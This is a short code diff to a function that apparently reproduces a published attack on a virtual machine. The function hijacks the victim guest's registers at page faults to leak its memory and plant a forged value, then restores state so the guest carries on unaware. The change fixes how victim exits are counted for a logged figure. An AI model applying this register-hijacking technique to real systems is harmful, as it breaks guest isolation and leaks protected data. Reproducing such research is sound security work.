@@ -64,9 +64,10 @@ def register_oracle(hands: Hands, facts: Facts, log: Log) -> bytes:
         hands.victim.until(PAGE_FAULT)
         return struct.pack("<2Q", registers["rax"], registers["rcx"])
 
-    pieces = places(facts, 16)
+    pieces, before = places(facts, 16), hands.victim.exits
     loot = b"".join(map(loaded, pieces))
-    log.step(f"{len(pieces)} exits, two loads of the victim's own before each", loot)
+    exits = hands.victim.exits - before
+    log.step(f"{exits} exits, two loads of the victim's own before each", loot)
     registers["rip"], registers["rdi"], registers["rcx"] = store, RESULT, 4
     registers["rax"] = FORGED
     hands.victim.until(PAGE_FAULT)
@@ -77,7 +78,5 @@ def register_oracle(hands: Hands, facts: Facts, log: Log) -> bytes:
     hands.victim.skip(1)
     hands.victim.until(HLT)
     log.step("the registers are put back, and the victim goes on as if nothing had been")
-    log.figure(
-        "exits for each 8 bytes", 8 * len(pieces) / len(loot), published="no figure in the stored text"
-    )
+    log.figure("exits for each 8 bytes", 8 * exits / len(loot), published="no figure in the stored text")
     return loot
